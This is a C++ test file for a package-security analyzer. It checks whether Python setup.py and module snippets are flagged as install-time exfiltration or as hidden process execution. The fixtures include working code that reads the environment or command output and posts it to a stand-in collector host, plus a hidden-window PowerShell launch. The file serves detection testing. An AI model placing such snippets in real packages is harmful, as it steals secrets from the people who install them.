// Python code that gathers local data (a program's output, the whole environment) and sends it,
// and install-time commands started with their window hidden: severity by where the code runs.
#include <catch2/catch.hpp>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;
using test::sample_ref;
using test::shared_analyzer;

namespace {

PackageAnalysis run(std::vector<ArchiveEntry> files) {
  return shared_analyzer().analyze(sample_ref("pkg"), files, {});
}

// A program's output captured and posted: the shape of an install-time beacon.
const char* k_capture_and_post =
    "import os\nimport urllib.parse\nimport urllib.request\n"
    "stream = os.popen('env')\nreport = stream.read()\n"
    "body = urllib.parse.urlencode({'r': report}).encode()\n"
    "urllib.request.urlopen('http://collector.example.test/r', data=body)\n";

}  // namespace

TEST_CASE("command output sent over the network at install time is high exfiltration",
          "[engine][python]") {
  SECTION("captured and posted from setup.py") {
    auto a = run({{"setup.py", std::string(k_capture_and_post) +
                                   "from setuptools import setup\nsetup(name='pkg')\n"}});
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("captured, then sent in a header from an install command class") {
    auto a = run({{"setup.py",
                   "import subprocess\nfrom urllib import request\n"
                   "from setuptools import setup\nfrom setuptools.command.install import install\n"
                   "def report(probe):\n"
                   "    out = subprocess.check_output(probe, shell=True).decode()\n"
                   "    req = request.Request('http://collector.example.test/', "
                   "headers={'X-D': out.encode().hex()})\n"
                   "    request.urlopen(req, timeout=2)\n"
                   "class Install(install):\n"
                   "    def run(self):\n"
                   "        install.run(self)\n"
                   "        report(self.distribution.get_name())\n"
                   "setup(name='pkg', cmdclass={'install': Install})\n"}});
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("the same code in a runtime module is not install-time exfiltration") {
    auto a = run({{"pkg/report.py", k_capture_and_post}});
    CHECK_FALSE(has(a.threats, "exfiltration"));
    CHECK(a.risk < Risk::high);
  }
  SECTION("a build step that reads git's output and downloads with a plain GET stays medium") {
    auto a = run({{"setup.py",
                   "import subprocess, urllib.request\nfrom setuptools import setup\n"
                   "tag = subprocess.check_output(['git', 'describe']).decode().strip()\n"
                   "urllib.request.urlretrieve('https://downloads.example.test/lib-' + tag + "
                   "'.tar.gz', 'lib.tar.gz')\n"
                   "setup(name='pkg', version=tag)\n"}});
    CHECK_FALSE(has(a.threats, "exfiltration"));
    CHECK(a.risk == Risk::medium);
  }
}

TEST_CASE("the whole environment handed to a request is exfiltration", "[engine][python]") {
  SECTION("posted as the request body") {
    auto a = run({{"pkg/log.py",
                   "import os\nimport requests\n"
                   "def send():\n"
                   "    env_vars = os.environ\n"
                   "    requests.post('https://collector.example.test/log', data=env_vars)\n"
                   "send()\n"}});
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("one named setting sent is not") {
    auto a = run({{"pkg/log.py",
                   "import os\nimport requests\n"
                   "requests.post('https://api.example.test/v1', "
                   "data={'lang': os.environ.get('LANG')})\n"}});
    CHECK_FALSE(has(a.threats, "exfiltration"));
    CHECK(a.risk < Risk::high);
  }
}

TEST_CASE("a program started with a hidden window at install time is high", "[engine][python]") {
  // The command line goes through a helper, so no rule sees it at the process start itself.
  const std::string head =
      "import subprocess\nfrom setuptools import setup\n"
      "def run(cmd):\n"
      "    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n";
  SECTION("PowerShell told to hide its window") {
    auto a = run({{"setup.py", head + "run(r\"powershell -command Start-Process "
                                      "-WindowStyle Hidden -FilePath tool.exe\")\n"
                                      "setup(name='pkg')\n"}});
    CHECK(has(a.threats, "install-exec"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("the same start with its window shown stays medium") {
    auto a = run({{"setup.py", head + "run(r\"powershell -command Start-Process "
                                      "-FilePath tool.exe\")\n"
                                      "setup(name='pkg')\n"}});
    CHECK(has(a.threats, "install-exec"));
    CHECK(a.risk == Risk::medium);
  }
  SECTION("a hidden window in runtime code does not make a threat by itself") {
    auto a = run({{"pkg/ui.py",
                   "import subprocess\n"
                   "def show():\n"
                   "    subprocess.Popen(r\"powershell -WindowStyle Hidden -File "
                   "a.ps1\", shell=True)\n"}});
    CHECK(a.risk < Risk::high);
  }
}
